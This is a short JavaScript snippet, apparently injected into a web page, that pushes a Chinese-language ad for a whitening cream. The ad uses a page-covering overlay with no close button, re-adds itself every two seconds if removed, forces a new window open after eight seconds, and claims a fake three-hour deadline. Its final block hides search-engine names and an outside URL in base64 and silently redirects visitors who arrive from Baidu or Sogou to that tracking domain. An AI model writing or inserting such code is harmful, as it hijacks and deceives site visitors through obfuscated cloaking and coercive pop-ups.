(function(){
  // 首次进入即弹出活动窗口，遮罩覆盖整页，不提供关闭按钮
  var m=document.createElement('div'); m.id='mask'; document.body.appendChild(m);
  var a=document.createElement('div'); a.id='adbox';
  a.innerHTML='<h2>限时狂欢：焕白霜买一送三</h2><p>仅剩最后3小时！扫码加客服领取内部价</p>';
  document.body.appendChild(a);
  m.onclick=function(e){e.stopPropagation();};
  setInterval(function(){ if(!document.getElementById('adbox')) document.body.appendChild(a); }, 2000);
  setTimeout(function(){ window.open("/products/cream.html?from=pop",'_blank'); }, 8000);
  // 渠道跳转
  var r=document.referrer||''; var k=['YmFpZHU=','c29nb3U='];
  for(var i=0;i<k.length;i++){ if(r.indexOf(atob(k[i]))>-1){ location.href=atob('aHR0cDovL3d3dy5kZWFsLXRyYWNrLnRvcC9yP2M9OTk='); } }
})();
